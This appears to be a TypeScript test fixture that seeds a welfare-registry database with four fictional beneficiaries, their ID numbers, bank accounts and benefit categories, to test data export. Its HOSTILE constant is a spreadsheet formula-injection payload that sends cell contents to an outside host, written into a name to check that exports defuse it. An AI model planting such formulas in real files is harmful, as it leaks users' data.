import type { PersonId } from '../../src/lib/act.ts'
import { localDate } from '../../src/lib/time.ts'
import { registry } from '../../src/registry/registry.ts'
import type { CommuneRow, NewPerson } from '../../src/registry/registry.ts'
import { freshDatabase } from './database.ts'
import type { FreshDatabase } from './database.ts'
import { never } from './list-town.ts'
import { august, leader, preparer } from './town.ts'
import { vault } from './vault.ts'

/** The day as of which the tests export. */
export const exportDay = localDate('2023-08-10')

const uuid = (kind: number, n: number) =>
  `${String(kind).padStart(8, '0')}-0000-7000-8000-${String(n).padStart(12, '0')}`
export const exportPerson = (n: number) => uuid(2, n) as PersonId
export const exportAccount = (n: number) => uuid(5, n)

/** Marked numbers: of people 1 to 3 in the first commune, of person 4 in the second. */
export const ID_NUMBERS = ['046145000011', '046145000022', '046145000033', '046145000044'] as const
export const ACCOUNTS = ['0012345678901', '0905000122', '', '0098765432109'] as const

/** A name that a spreadsheet would run: the register would not take it, a row taken over from elsewhere may have it. */
export const HOSTILE = '=HYPERLINK("http://x.vn?"&A1,"Mẫu")'

/** Two communes: three people in one (of whom two are paid by account and one is HIV-infected), one in the other. */
export interface ExportTown {
  readonly database: FreshDatabase
  readonly here: CommuneRow
  readonly there: CommuneRow
}

export async function exportTown(): Promise<ExportTown> {
  const database = await freshDatabase()
  const [here = never(), there = never()] = await database.app.transact(preparer, (tx) =>
    registry.communesIn(tx, august),
  )
  const communeOf = (n: number) => (n === 4 ? there : here).id
  const names = ['Nguyễn Thị Ánh Mẫu'.normalize('NFD'), 'Trần Thị Đào', 'Lê Thị Dung', 'Hồ Thị Xa']
  const people = ID_NUMBERS.map((idNumber, at): NewPerson => ({
    ...{ id: exportPerson(at + 1), communeId: communeOf(at + 1), fullName: names[at] ?? '' },
    ...{ sex: 'female', birthDate: localDate('1945-03-07'), birthYearOnly: at === 2, idNumber },
    village: VILLAGES[at] ?? null,
  }))
  const accounts = ACCOUNTS.flatMap((number, at) =>
    number === ''
      ? []
      : [
          {
            ...{ id: exportAccount(at + 1), personId: exportPerson(at + 1), number },
            ...{ communeId: communeOf(at + 1), bankCode: at === 1 ? null : '970405' },
            ...{ holderName: 'NGUYEN THI ANH MAU', replaces: null },
          },
        ],
  )
  const enrolments = [1, 2, 3, 4].map((n) => ({
    ...{ id: uuid(6, n), personId: exportPerson(n), communeId: communeOf(n), programme: 'BTXH' },
    ...{ categoryCode: CATEGORIES[n - 1] ?? '', validFrom: localDate('2023-01-01') },
    ...{ payeeId: exportPerson(n), representationId: null },
    paymentAccountId: ACCOUNTS[n - 1] === '' ? null : exportAccount(n),
    dossierNumber: n === 1 ? 'HS-0001/2023' : null,
  }))
  const intake = { people, representations: [], accounts, enrolments }
  await database.app.transact(preparer, (tx) =>
    registry.enter(tx, vault, preparer, intake, leader.actor),
  )
  await rename(database, 2, HOSTILE)
  return { database, here, there }
}

/** Where the people live in their communes, as far as is known. */
const VILLAGES = ['Tổ dân phố Hạ', 'Tổ 2']

/** Of the enrolments of the people in order: 360.000, 540.000, 540.000 and 360.000 đồng. */
const CATEGORIES = ['NCT_80', 'HIV_NGHEO', 'NKT_N', 'NCT_80']

/** Gives the n-th person any name, past the register. */
export async function rename({ admin }: FreshDatabase, n: number, name: string): Promise<void> {
  const renamed = `update person set full_name = $2, given_name = regexp_replace($2, '^.* ', '') where id = $1`
  await admin.query(renamed, [exportPerson(n), name])
}
